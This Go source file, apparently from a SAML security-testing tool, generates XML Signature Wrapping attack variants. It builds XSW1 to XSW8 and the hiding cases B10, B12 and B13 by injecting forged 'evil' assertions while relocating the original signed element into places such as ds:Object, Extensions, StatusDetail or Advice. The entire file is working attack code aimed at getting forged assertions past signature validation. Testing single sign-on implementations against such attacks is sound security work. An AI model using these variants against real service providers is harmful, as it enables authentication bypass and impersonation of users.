package xmlattack

import "github.com/beevik/etree"

// Wrapping returns XSW1 to XSW8 of a signed Response. XSW1 and XSW2 need a
// signed Response, XSW3 to XSW8 a signed Assertion; those that the message
// cannot serve are left out.
func Wrapping(signed []byte, evil Evil) ([]Variant, error) {
	return build(signed, []maker{
		{"XSW1", func(m *message) bool { return wrapResponse(m, evil, true) }},
		{"XSW2", func(m *message) bool { return wrapResponse(m, evil, false) }},
		{"XSW3", func(m *message) bool { return xsw3(m, evil) }},
		{"XSW4", func(m *message) bool { return xsw4(m, evil) }},
		{"XSW5", func(m *message) bool { return xsw5(m, evil) }},
		{"XSW6", func(m *message) bool { return xsw6(m, evil) }},
		{"XSW7", func(m *message) bool { return xsw7(m, evil) }},
		{"XSW8", func(m *message) bool { return xsw8(m, evil) }},
	})
}

// wrapResponse makes the root evil under a new ID and keeps the signed
// Response inside of the signature (XSW1) or before it (XSW2).
func wrapResponse(m *message, evil Evil, inside bool) bool {
	s := signature(m.response)
	if s == nil {
		return false
	}
	original := unsigned(m.response)
	m.response.CreateAttr("ID", "_evil_response")
	evil(m.assertion)
	if inside {
		s.AddChild(original)
	} else {
		m.response.InsertChildAt(s.Index(), original)
	}
	return true
}

// idName is the attribute that identifies an element of either version of SAML.
func idName(el *etree.Element) string {
	if el.SelectAttr("AssertionID") != nil {
		return "AssertionID"
	}
	return "ID"
}

// rename gives an assertion another ID.
func rename(assertion *etree.Element) { assertion.CreateAttr(idName(assertion), "_evil_assertion") }

// evilCopy returns an unsigned evil copy of the assertion under a new ID.
func evilCopy(m *message, evil Evil) *etree.Element {
	c := unsigned(m.assertion)
	rename(c)
	evil(c)
	return c
}

// xsw3 puts the evil assertion before the signed one.
func xsw3(m *message, evil Evil) bool {
	if signature(m.assertion) == nil {
		return false
	}
	m.response.InsertChildAt(m.assertion.Index(), evilCopy(m, evil))
	return true
}

// xsw4 puts the signed assertion into the evil one.
func xsw4(m *message, evil Evil) bool {
	if signature(m.assertion) == nil {
		return false
	}
	wrapper, original := evilCopy(m, evil), detached(m.assertion)
	at := m.assertion.Index()
	m.response.RemoveChild(m.assertion)
	wrapper.AddChild(original)
	m.response.InsertChildAt(at, wrapper)
	return true
}

// xsw5 keeps the signature on the evil assertion and appends the original.
func xsw5(m *message, evil Evil) bool {
	if signature(m.assertion) == nil {
		return false
	}
	original := unsigned(m.assertion)
	rename(m.assertion)
	evil(m.assertion)
	m.response.AddChild(original)
	return true
}

// xsw6 keeps the signature on the evil assertion and hides the original in it.
func xsw6(m *message, evil Evil) bool {
	s := signature(m.assertion)
	if s == nil {
		return false
	}
	original := unsigned(m.assertion)
	rename(m.assertion)
	evil(m.assertion)
	s.AddChild(original)
	return true
}

// xsw7 puts the evil assertion, with the same ID, into Extensions.
func xsw7(m *message, evil Evil) bool {
	if signature(m.assertion) == nil {
		return false
	}
	copied := unsigned(m.assertion)
	evil(copied)
	extensions := etree.NewElement("samlp:Extensions")
	extensions.CreateAttr("xmlns:samlp", "urn:oasis:names:tc:SAML:2.0:protocol")
	extensions.AddChild(copied)
	m.response.InsertChildAt(m.assertion.Index(), extensions)
	return true
}

// xsw8 keeps the signature on the evil assertion and hides the original, with
// the same ID, in ds:Object.
func xsw8(m *message, evil Evil) bool {
	s := signature(m.assertion)
	if s == nil {
		return false
	}
	original := unsigned(m.assertion)
	evil(m.assertion)
	object(s).AddChild(original)
	return true
}

// object adds a ds:Object to a signature.
func object(s *etree.Element) *etree.Element {
	o := etree.NewElement("dso:Object")
	o.CreateAttr("xmlns:dso", "http://www.w3.org/2000/09/xmldsig#")
	s.AddChild(o)
	return o
}

// Hiding returns the cases B10, B12 and B13: an evil assertion beside, before
// and inside of other elements, and the signed one hidden there with an evil
// one in its place.
func Hiding(signed []byte, evil Evil) ([]Variant, error) {
	makers := []maker{
		{"B10 copy before", func(m *message) bool {
			m.response.InsertChildAt(m.assertion.Index(), evilCopy(m, evil))
			return true
		}},
		{"B10 copy after", func(m *message) bool {
			m.response.AddChild(evilCopy(m, evil))
			return true
		}},
	}
	for _, place := range places() {
		makers = append(makers,
			maker{"B12 evil in " + place.name, func(m *message) bool {
				into := place.make(m)
				if into == nil {
					return false
				}
				into.AddChild(evilCopy(m, evil))
				return true
			}},
			maker{"B13 signed in " + place.name, func(m *message) bool {
				wrapped, original := evilCopy(m, evil), detached(m.assertion)
				into := place.make(m)
				if into == nil {
					return false
				}
				if place.inAssertion {
					into.AddChild(original)
					evil(m.assertion)
					return true
				}
				into.AddChild(original)
				at := m.assertion.Index()
				m.response.RemoveChild(m.assertion)
				m.response.InsertChildAt(at, wrapped)
				return true
			}})
	}
	return build(signed, makers)
}

type place struct {
	name        string
	inAssertion bool
	make        func(*message) *etree.Element
}

// places are the elements that may hold anything.
func places() []place {
	before := func(m *message, tag, space string) *etree.Element {
		el := etree.NewElement("x:" + tag)
		el.CreateAttr("xmlns:x", space)
		m.response.InsertChildAt(m.assertion.Index(), el)
		return el
	}
	const protocol = "urn:oasis:names:tc:SAML:2.0:protocol"
	return []place{
		{"Extensions", false, func(m *message) *etree.Element { return before(m, "Extensions", protocol) }},
		{"StatusDetail", false, func(m *message) *etree.Element {
			status := child(m.response, "Status")
			if status == nil {
				return nil
			}
			el := etree.NewElement("x:StatusDetail")
			el.CreateAttr("xmlns:x", protocol)
			status.AddChild(el)
			return el
		}},
		{"Advice", true, func(m *message) *etree.Element {
			el := etree.NewElement("x:Advice")
			el.CreateAttr("xmlns:x", "urn:oasis:names:tc:SAML:2.0:assertion")
			m.assertion.AddChild(el)
			return el
		}},
		{"Object", true, func(m *message) *etree.Element {
			s := signature(m.assertion)
			if s == nil {
				return nil
			}
			return object(s)
		}},
		{"unknown wrapper", false, func(m *message) *etree.Element { return before(m, "Wrapper", "urn:x") }},
		{"inner Response", false, func(m *message) *etree.Element { return before(m, "Response", protocol) }},
	}
}
